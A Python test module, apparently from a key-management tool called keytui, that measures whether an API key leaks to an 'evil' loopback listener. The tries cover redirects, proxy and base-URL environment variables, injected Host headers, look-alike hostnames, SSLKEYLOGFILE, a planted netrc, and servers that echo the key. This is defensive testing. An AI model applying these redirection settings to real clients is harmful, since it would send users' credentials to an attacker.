"""Servers, proxies and variables that try to receive a key: one row a try, and who received it."""

from __future__ import annotations

import contextlib
import datetime
import ipaddress
import os
import socket
import ssl
import threading
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

from keytui.errors import KeytuiError
from keytui.model import Secret
from keytui.providers import checks, client, issuers, prompts, sdk
from tests import leaks
from tests.canary.stage import canary
from tests.providers.conftest import http, make_key

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Iterator, Mapping
    from types import TracebackType

    from keytui.model import Key, KeyKind

PATIENCE = 10.0
_MODELS = b'{"object":"list","data":[{"id":"gpt-6-luna"}]}'


class Ear:
    """Listens on loopback as a server or a proxy, in clear or with a certificate of its own; keeps what it reads."""

    def __init__(self, answer: bytes, certificate: str) -> None:
        self.heard = b""
        self.answer = answer
        self._tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._tls.load_cert_chain(certificate)
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def __enter__(self) -> Ear:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        with contextlib.suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._talk, args=(connection,), daemon=True).start()

    def _talk(self, connection: socket.socket) -> None:
        connection.settimeout(PATIENCE)
        with contextlib.suppress(OSError), connection:
            if connection.recv(8, socket.MSG_PEEK).startswith(b"CONNECT"):
                self._request(connection)
                connection.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
            if connection.recv(1, socket.MSG_PEEK) == b"\x16":  # TLS begins
                with self._tls.wrap_socket(connection, server_side=True) as clear:
                    self._answer(clear)
            else:
                self._answer(connection)

    def _answer(self, connection: socket.socket) -> None:
        while self._request(connection):
            connection.sendall(self.answer)

    def _request(self, connection: socket.socket) -> bytes:
        """Read a request with its body; b"" at the end."""
        request = b""
        while part := connection.recv(65_536):
            self.heard += part
            request += part
            head, blank, body = request.partition(b"\r\n\r\n")
            lengths = [int(line[15:]) for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")]
            if blank and len(body) >= sum(lengths):
                return request
        return b""


class Try(NamedTuple):
    """One try to get a key.

    Attributes:
        name: What is tried.
        variables: Variables of the environment; "{evil}" stands for the address of the one who listens, "{port}" for
            its port, "{file}" for a file that may be written.
        answer: What the key's own server answers; "{evil}" likewise, "{key}" for the key.
        base_url: Where the key is sent; "" is a server on this machine, "https" one beyond it.
        provider: The key's provider.
        kind: What the key may do.
        reaches: Whether the key's own server must receive the key, to show that the try was one.
    """

    name: str
    variables: Mapping[str, str] = {}
    answer: bytes = b""
    base_url: str = ""
    provider: str = "openai"
    kind: KeyKind = "api"
    reaches: bool = True


def _redirect(status: str, to: str) -> bytes:
    return http(status, b"", f"Location: {to}")


_NETRC = "machine 127.0.0.1 login planted password planted\n"
_PROXIES = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy")
_BEYOND = "https://llm.invalid/v1"

TRIES: tuple[Try, ...] = (
    *(
        Try(f"redirect {status.split()[0]} to another host", answer=_redirect(status, "{evil}/v1/models"))
        for status in ("301 Moved Permanently", "302 Found", "303 See Other", "307 Temporary", "308 Permanent")
    ),
    Try("redirect to the same host, another port", answer=_redirect("307 Temporary", "http://127.0.0.1:{port}/v1")),
    Try("redirect by a path without a scheme", answer=_redirect("308 Permanent", "//127.0.0.1:{port}/v1")),
    Try(
        "Refresh and Content-Location headers",
        answer=http("200 OK", _MODELS, "Refresh: 0;url={evil}", "Content-Location: {evil}"),
    ),
    *(Try(f"{name}, a server on this machine", {name: "{evil}", "NO_PROXY": ""}) for name in _PROXIES),
    *(
        Try(f"{name}, https beyond this machine", {name: "{evil}"}, base_url=_BEYOND, reaches=False)
        for name in ("HTTPS_PROXY", "ALL_PROXY", "https_proxy", "all_proxy")
    ),
    Try(
        "a proxy with a user and a password",
        {"HTTPS_PROXY": "http://a:b@127.0.0.1:{port}"},
        base_url=_BEYOND,
        reaches=False,
    ),
    Try("a SOCKS proxy", {"ALL_PROXY": "socks5://127.0.0.1:{port}"}, base_url=_BEYOND, reaches=False),
    Try(
        "a proxy's certificate in SSL_CERT_FILE",
        {"HTTPS_PROXY": "{evil}", "SSL_CERT_FILE": "{certificate}"},
        base_url=_BEYOND,
        reaches=False,
    ),
    Try("a certificate nobody signed", base_url="https://127.0.0.1:{port}/v1", reaches=False),
    Try("OPENAI_BASE_URL", {"OPENAI_BASE_URL": "{evil}/v1"}),
    Try("OPENAI_API_BASE, OPENAI_API_HOST", {"OPENAI_API_BASE": "{evil}/v1", "OPENAI_API_HOST": "{evil}"}),
    Try(
        "OPENAI_CUSTOM_HEADERS with a host of its own",
        {"OPENAI_CUSTOM_HEADERS": "Host: evil.example\nX-Forward-To: {evil}"},
    ),
    Try("OPENAI_API_KEY and OPENAI_ADMIN_KEY", {"OPENAI_API_KEY": "planted", "OPENAI_ADMIN_KEY": "planted"}),
    Try("OPENAI_ORG_ID and OPENAI_PROJECT_ID", {"OPENAI_ORG_ID": "planted", "OPENAI_PROJECT_ID": "planted"}),
    Try("OPENAI_LOG=debug", {"OPENAI_LOG": "debug"}),
    Try(
        "AZURE_OPENAI_ENDPOINT",
        {"AZURE_OPENAI_ENDPOINT": "{evil}", "OPENAI_API_VERSION": "1", "OPENAI_API_TYPE": "azure"},
    ),
    Try("NETRC with a password for the host", {"NETRC": "{file}"}),
    Try("SSLKEYLOGFILE", {"SSLKEYLOGFILE": "{file}"}, base_url="https://127.0.0.1:{port}/v1", reaches=False),
    Try(
        "SSLKEYLOGFILE, trusted host",
        {"SSLKEYLOGFILE": "{file}", "SSL_CERT_FILE": "{certificate}"},
        base_url="https://127.0.0.1:{own}/v1",
    ),
    Try(
        "plain http beyond this machine, not allowed", base_url="http://localhost.evil.example:{port}/v1", reaches=False
    ),
    Try("a host that begins like loopback", base_url="http://127.0.0.1.evil.example:{port}/v1", reaches=False),
    Try("a user in the address", base_url="http://127.0.0.1:80@127.0.0.1:{port}/v1", reaches=False),
    Try("an admin key, foreign host", base_url="https://llm.invalid:{port}/v1", kind="admin", reaches=False),
    Try(
        "an admin key, host that ends alike",
        base_url="https://evilapi.openai.com.invalid/v1",
        kind="admin",
        reaches=False,
    ),
    *(
        Try(f"an admin key, {name}", {name: "{evil}", "OPENAI_BASE_URL": "{evil}/v1"}, kind="admin")
        for name in ("HTTP_PROXY", "ALL_PROXY", "OPENAI_ADMIN_KEY", "OPENAI_CUSTOM_HEADERS")
    ),
    Try(
        "an OpenRouter management key, redirect",
        answer=_redirect("307 Temporary", "{evil}/v1"),
        provider="openrouter",
        kind="admin",
    ),
    Try("an admin key, redirect", answer=_redirect("307 Temporary", "{evil}/v1"), kind="admin"),
    Try("the key in an error's text", answer=http("401 No", b'{"error":{"message":"bad key {key}","code":"{key}"}}')),
    Try("the key in a header", answer=http("401 No", b"{}", "x-request-id: {key}", "Location: {evil}/?{key}")),
    Try("the key in the status line", answer=b"HTTP/1.1 401 {key}\r\nContent-Length: 2\r\n\r\n{}"),
    Try("the key in a model's name", answer=http("200 OK", b'{"object":"list","data":[{"id":"{key}"}]}')),
    Try("the key in no HTTP at all", answer=b"{key} {key}\r\n\r\n"),
)


class Outcome(NamedTuple):
    """What came of a try.

    Attributes:
        taken: The listener that should not have, got the key.
        shown: The key in what a person or a log would see.
        reached: The key's own server got it.
    """

    taken: bool
    shown: bool
    reached: bool


class Note:
    """A file that a variable names: a netrc that tempts, and room for what keytui might write."""

    def __init__(self, path: str) -> None:
        self._path = Path(path)
        self._path.write_text(_NETRC, encoding="utf-8")

    def added(self) -> str:
        """Return what was written to it."""
        return self._path.read_text(encoding="utf-8").removeprefix(_NETRC)


def certify(path: str) -> None:
    """Write a certificate for the hosts of the tries, which nobody signed, and its key."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    private = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "evil")])
    now = datetime.datetime.now(datetime.UTC)
    hosts = [x509.DNSName("llm.invalid"), x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName(hosts), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(private, hashes.SHA256())
    )
    pem = serialization.Encoding.PEM
    bare = serialization.NoEncryption()
    Path(path).write_bytes(private.private_bytes(pem, serialization.PrivateFormat.PKCS8, bare) + made.public_bytes(pem))


async def attempt(row: Try, folder: str, *, careless: bool = False) -> Outcome:
    """Check a key and send a prompt with it while the try goes on.

    The caller puts the variables back.

    Args:
        careless: Use openai's client as it comes instead of keytui's, to show that the try would succeed.
    """
    secret = Secret(canary())
    certificate = os.path.join(folder, "certificate.pem")
    certify(certificate)
    with Ear(http("200 OK", _MODELS), certificate) as evil, Ear(b"", certificate) as own:
        values = {
            "{certificate}": certificate,
            "{evil}": f"http://127.0.0.1:{evil.port}",
            "{port}": str(evil.port),
            "{own}": str(own.port),
            "{file}": os.path.join(folder, "f"),
        }

        def filled(text: str) -> str:
            for mark, value in values.items():
                text = text.replace(mark, value)
            return text

        answer = filled((row.answer or http("200 OK", _MODELS)).decode()).replace("{key}", secret.reveal())
        own.answer = answer.encode()
        note = Note(values["{file}"])
        for name, value in row.variables.items():
            os.environ[name] = filled(value)
        sdk.ssl_context.cache_clear()
        key = make_key(filled(row.base_url) or f"http://127.0.0.1:{own.port}/v1", row.provider, row.kind)
        said = _said_carelessly(key, secret) if careless else _said(key, secret)
        shown = "".join([text async for text in said])
        shown += note.added()
        # A request with a planted value went under another flag than ours.
        planted = b"planted" in own.heard
        return Outcome(
            bool(leaks.leaks(evil.heard, secret.reveal())) or planted,
            bool(leaks.leaks(shown.encode(), secret.reveal())) or "CLIENT_RANDOM" in shown,
            secret.reveal().encode() in own.heard,
        )


async def _said(key: Key, secret: Secret) -> AsyncIterator[str]:
    await client.load()
    if key.kind == "admin":
        try:
            async with issuers.open_issuer(key, secret, timeout_s=PATIENCE) as issuer:
                yield repr(await issuer.list_keys())
        except KeytuiError as error:
            yield f"{error!r} {error.sentence} {error.hint} {error.__cause__!r}"
    yield repr(await checks.check(key, secret, timeout_s=PATIENCE))
    try:
        async with contextlib.aclosing(prompts.stream(key, secret, "Hello", timeout_s=PATIENCE)) as parts:
            async for part in parts:
                yield repr(part)
    except KeytuiError as error:
        yield f"{error!r} {error.sentence} {error.hint} {error.__cause__!r}"


async def _said_carelessly(key: Key, secret: Secret) -> AsyncIterator[str]:
    import openai

    where = None if "OPENAI_BASE_URL" in os.environ else key.base_url
    with contextlib.suppress(openai.OpenAIError):
        async with openai.AsyncOpenAI(
            api_key=secret.reveal(), max_retries=0, timeout=PATIENCE, base_url=where
        ) as careless:
            yield repr(await careless.models.list())


@contextlib.contextmanager
def kept_environment() -> Iterator[None]:
    """Put every variable back, and the certificates that were read under them."""
    before = dict(os.environ)
    try:
        yield
    finally:
        os.environ.clear()
        os.environ.update(before)
        sdk.ssl_context.cache_clear()


def drawn(outcomes: Mapping[str, Outcome]) -> str:
    """Return the table as text."""
    width = max(map(len, outcomes))
    lines = [f"{'try':<{width}}  got the key  key shown  own server"]
    for name, found in outcomes.items():
        own = "received" if found.reached else "not asked"
        lines.append(
            f"{name:<{width}}  {'YES' if found.taken else 'no':<11}  {'YES' if found.shown else 'no':<9}  {own}"
        )
    return "\n".join(lines)
